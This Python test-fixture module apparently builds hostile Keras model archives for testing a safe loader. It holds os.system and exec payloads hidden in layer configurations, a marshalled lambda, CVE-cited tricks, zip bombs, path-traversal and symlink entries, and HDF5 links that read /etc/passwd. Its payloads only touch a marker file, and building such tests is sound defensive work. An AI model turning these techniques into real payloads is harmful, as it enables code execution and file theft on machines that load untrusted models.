"""Keras files that do harm: every maker writes one file to `path`; code in it would create the file `trace`."""

import base64
import io
import json
import marshal
import zipfile
from pathlib import Path
from typing import Any

import h5py
import numpy as np

FLOAT32 = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}


def layer(kind: str, name: str, **config: Any) -> dict[str, Any]:
    content = {"name": name, "trainable": True, "dtype": FLOAT32, **config}
    return {"module": "keras.layers", "class_name": kind, "config": content, "registered_name": None}


def entry(*axes: int) -> dict[str, Any]:
    config = {"batch_shape": [None, *axes], "dtype": "float32", "sparse": False, "name": "entry"}
    return {"module": "keras.layers", "class_name": "InputLayer", "config": config, "registered_name": None}


def sequential(*layers: dict[str, Any]) -> dict[str, Any]:
    config = {"name": "net", "trainable": True, "dtype": FLOAT32, "layers": list(layers)}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None}


def small() -> dict[str, Any]:
    return sequential(entry(4), layer("Dense", "dense", units=3), layer("Dense", "dense_1", units=2))


def weights(arrays: dict[str, Any] | None = None) -> bytes:
    """Return the HDF5 file of `small`, or of the arrays given by path."""
    rng = np.random.default_rng(0)
    shapes = {"dense/vars/0": (4, 3), "dense/vars/1": (3,), "dense_1/vars/0": (3, 2), "dense_1/vars/1": (2,)}
    usual = {f"layers/{path}": rng.normal(size=shape).astype(np.float32) for path, shape in shapes.items()}
    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        for path, values in (usual if arrays is None else arrays).items():
            file[path] = values
    return stream.getvalue()


def write(path: Path, config: Any, stored: bytes | None = None, **more: Any) -> None:
    text = config if isinstance(config, str) else json.dumps(config)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", '{"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}')
        archive.writestr("config.json", text)
        archive.writestr("model.weights.h5", weights() if stored is None else stored)
        for name, content in more.items():
            archive.writestr(name, content)


# --- code --------------------------------------------------------------------------------------------------------


def lambda_layer(path: Path, trace: Path) -> None:
    code = compile(f"lambda x: (open({str(trace)!r}, 'w').close(), x)[1]", "payload", "eval").co_consts[0]
    packed = base64.b64encode(marshal.dumps(code)).decode()
    function = {"class_name": "__lambda__", "config": {"code": packed, "defaults": None, "closure": None}}
    wide = layer("Lambda", "code", function=function, output_shape=[4], arguments={})
    write(path, sequential(entry(4), wide, layer("Dense", "dense", units=3), layer("Dense", "dense_1", units=2)))


def lambda_of_a_function(path: Path, trace: Path) -> None:
    function = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    wide = layer("Lambda", "code", function=function, arguments={"command": f"touch {trace}"})
    write(path, sequential(entry(4), wide))


def module_class(path: Path, trace: Path, module: str = "os", name: str = "system") -> None:
    """Name a function of any module as the class of a layer (CVE-2025-1550)."""
    hostile = {"module": module, "class_name": name, "config": {"command": f"touch {trace}"}, "registered_name": name}
    write(path, sequential(entry(4), hostile))


def module_function(path: Path, trace: Path, module: str = "os", name: str = "system") -> None:
    """Name a function of any module as an activation, called on load by its arguments."""
    function = {"module": module, "class_name": "function", "config": name, "registered_name": name}
    write(path, sequential(entry(4), layer("Dense", "dense", units=3, activation=function)))


def builtins_exec(path: Path, trace: Path) -> None:
    module_class(path, trace, "builtins", "exec")


def get_file(path: Path, trace: Path) -> None:
    """Have Keras download something (CVE-2025-8747)."""
    config = {"fname": trace.name, "origin": "http://127.0.0.1:9/", "cache_dir": str(trace.parent)}
    hostile = {"module": "keras.utils", "class_name": "get_file", "config": config, "registered_name": "get_file"}
    write(path, sequential(entry(4), hostile))


def unsafe_switch(path: Path, trace: Path) -> None:
    """Turn safe mode off, then bring a Lambda (CVE-2025-9906)."""
    name = "enable_unsafe_deserialization"
    hostile = {"module": "keras.config", "class_name": name, "config": {}, "registered_name": name}
    write(path, sequential(entry(4), hostile, layer("Lambda", "code", function={"class_name": "__lambda__"})))


def in_initializer(path: Path, trace: Path) -> None:
    hostile = {"module": "os", "class_name": "system", "config": {"command": f"touch {trace}"}}
    write(path, sequential(entry(4), layer("Dense", "dense", units=3, kernel_initializer=hostile)))


def in_build_config(path: Path, trace: Path) -> None:
    """Hide code where Keras builds and compiles; those parts are dropped, so the model loads."""
    config = small()
    hostile = {"module": "os", "class_name": "system", "config": {"command": f"touch {trace}"}}
    config["compile_config"] = config["build_config"] = {"optimizer": hostile, "loss": hostile, "input_shape": [1, 4]}
    write(path, config)


def torch_module_wrapper(path: Path, trace: Path) -> None:
    code = f"touch {trace}"
    write(path, sequential(entry(4), layer("TorchModuleWrapper", "wrapped", module=code)))


def vocabulary_file(path: Path, trace: Path) -> None:
    """Read a file of the system as a vocabulary (CVE-2025-12058)."""
    write(path, sequential(entry(4), layer("StringLookup", "words", vocabulary="/etc/passwd")))


def layer_named_as_a_path(path: Path, trace: Path) -> None:
    """Name a layer as a file elsewhere: Keras made files of the names of layers (CVE-2026-12479)."""
    name = f"../../../../..{trace}"
    write(path, sequential(entry(4), layer("Dense", name, units=3), layer("Dense", "dense_1", units=2)))


def legacy_class(path: Path, trace: Path) -> None:
    """Leave out the module, which sends Keras to the loader of older files."""
    hostile = {"class_name": "Lambda", "config": {"name": "code", "function": "payload"}}
    write(path, sequential(entry(4), hostile))


def custom_class(path: Path, trace: Path) -> None:
    config = {"module": None, "class_name": "Mine", "config": {}, "registered_name": "mine>Mine"}
    write(path, config)


# --- size and shape ----------------------------------------------------------------------------------------------


def deep_config(path: Path, trace: Path) -> None:
    write(path, '{"a":' * 200_000 + "1" + "}" * 200_000)


def nested_config(path: Path, trace: Path) -> None:
    config: Any = small()
    for _ in range(80):
        config = sequential(config)
    write(path, config)


def huge_units(path: Path, trace: Path) -> None:
    write(path, sequential(entry(4), layer("Dense", "dense", units=2**30), layer("Dense", "dense_1", units=2**20)))


def huge_output(path: Path, trace: Path) -> None:
    wide = layer("RepeatVector", "repeat", n=2**30)
    write(path, sequential(entry(4), wide, layer("Flatten", "flat")))


def huge_input(path: Path, trace: Path) -> None:
    write(path, sequential(entry(2**20, 2**20, 3), layer("Flatten", "flat")))


def other_shapes(path: Path, trace: Path) -> None:
    write(path, small(), weights({"layers/dense/vars/0": np.zeros((9, 9), dtype=np.float32)}))


# --- the archive -------------------------------------------------------------------------------------------------


def zip_bomb(path: Path, trace: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("config.json", b" " * 200_000_000)


def traversal(path: Path, trace: Path) -> None:
    write(path, small(), **{f"../{trace.name}": b"x"})


def absolute_name(path: Path, trace: Path) -> None:
    write(path, small(), **{str(trace): b"x"})


def link_entry(path: Path, trace: Path) -> None:
    write(path, small())
    with zipfile.ZipFile(path, "a") as archive:
        info = zipfile.ZipInfo("assets")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc")


def entry_twice(path: Path, trace: Path) -> None:
    import warnings

    write(path, small())
    with zipfile.ZipFile(path, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr("config.json", "{}")


def assets(path: Path, trace: Path) -> None:
    write(path, small(), **{"assets/words.txt": b"x"})


# --- the weights -------------------------------------------------------------------------------------------------


def _hdf5(path: Path, change: Any, **options: Any) -> None:
    stream = io.BytesIO(weights())
    with h5py.File(stream, "a", **options) as file:
        change(file)
    write(path, small(), stream.getvalue())


def external_link(path: Path, trace: Path) -> None:
    def change(file: Any) -> None:
        del file["layers/dense/vars/0"]
        file["layers/dense/vars/0"] = h5py.ExternalLink("/etc/passwd", "/x")

    _hdf5(path, change)


def soft_link(path: Path, trace: Path) -> None:
    def change(file: Any) -> None:
        del file["layers/dense/vars/0"]
        file["layers/dense/vars/0"] = h5py.SoftLink("/layers/dense/vars/1")

    _hdf5(path, change)


def external_storage(path: Path, trace: Path) -> None:
    def change(file: Any) -> None:
        del file["layers/dense/vars/0"]
        file.create_dataset("layers/dense/vars/0", (4, 3), "f4", external=[("/etc/passwd", 0, 48)])

    _hdf5(path, change)


def virtual_dataset(path: Path, trace: Path) -> None:
    def change(file: Any) -> None:
        del file["layers/dense/vars/0"]
        layout = h5py.VirtualLayout(shape=(4, 3), dtype="f4")
        layout[:] = h5py.VirtualSource("/etc/passwd", "x", shape=(4, 3))
        file.create_virtual_dataset("layers/dense/vars/0", layout)

    _hdf5(path, change)


def absurd_shape(path: Path, trace: Path) -> None:
    """Declare an array of a billion numbers without storing one (CVE-2026-0897)."""

    def change(file: Any) -> None:
        del file["layers/dense/vars/0"]
        file.create_dataset("layers/dense/vars/0", (2**15, 2**15), "f4")

    _hdf5(path, change)


def packed_array(path: Path, trace: Path) -> None:
    def change(file: Any) -> None:
        del file["layers/dense/vars/0"]
        file.create_dataset("layers/dense/vars/0", data=np.zeros((4096, 4096), "f4"), compression="gzip")

    _hdf5(path, change)


def ring_of_groups(path: Path, trace: Path) -> None:
    def change(file: Any) -> None:
        file["layers/dense/again"] = file["layers"]

    _hdf5(path, change)


def text_weights(path: Path, trace: Path) -> None:
    write(path, small(), weights({"layers/dense/vars/0": np.array([b"text"] * 12).reshape(4, 3)}))


CODE = (
    lambda_of_a_function, module_class, module_function, builtins_exec, get_file, unsafe_switch, in_initializer,
    torch_module_wrapper, vocabulary_file, layer_named_as_a_path, legacy_class, custom_class,
)  # fmt: skip
SIZES = (deep_config, nested_config, huge_units, huge_output, huge_input, other_shapes)
ARCHIVES = (zip_bomb, traversal, absolute_name, link_entry, entry_twice, assets)
WEIGHTS = (
    external_link, soft_link, external_storage, virtual_dataset, absurd_shape, packed_array, ring_of_groups,
    text_weights,
)  # fmt: skip
